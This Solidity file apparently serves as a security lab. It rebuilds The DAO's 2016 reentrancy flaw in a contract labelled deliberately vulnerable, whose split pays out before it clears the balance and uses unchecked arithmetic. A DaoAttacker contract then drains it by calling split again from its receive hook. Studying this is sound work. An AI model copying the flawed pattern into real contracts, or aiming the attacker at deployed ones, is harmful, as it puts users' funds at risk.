// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {Guarded} from "Parts.sol";

/// @title A fund like The DAO of 2016: `split` pays before it forgets the balance. DELIBERATELY VULNERABLE.
contract Dao is Guarded {
    mapping(address account => uint256) public balanceOf;
    uint256 public totalLiabilities;

    event Split(address indexed account, uint256 amount);

    constructor(address guardian_) {
        guardian = guardian_;
    }

    function totalAssets() external view returns (uint256) {
        return address(this).balance;
    }

    function join() external payable whenNotPaused {
        balanceOf[msg.sender] += msg.value;
        totalLiabilities += msg.value;
    }

    function split() external whenNotPaused {
        uint256 amount = balanceOf[msg.sender];
        emit Split(msg.sender, amount);
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not sent");
        // The flaw: effects after the interaction. Compilers of that time did not check arithmetic.
        unchecked {
            totalLiabilities -= balanceOf[msg.sender];
        }
        balanceOf[msg.sender] = 0;
    }
}

/// @title Splits again while it is paid.
contract DaoAttacker {
    Dao public immutable DAO;
    uint256 private _left;

    constructor(Dao dao) {
        DAO = dao;
    }

    function attack(uint256 times) external payable {
        DAO.join{value: msg.value}();
        _left = times - 1;
        DAO.split();
    }

    receive() external payable {
        if (_left == 0) return;
        --_left;
        DAO.split();
    }
}
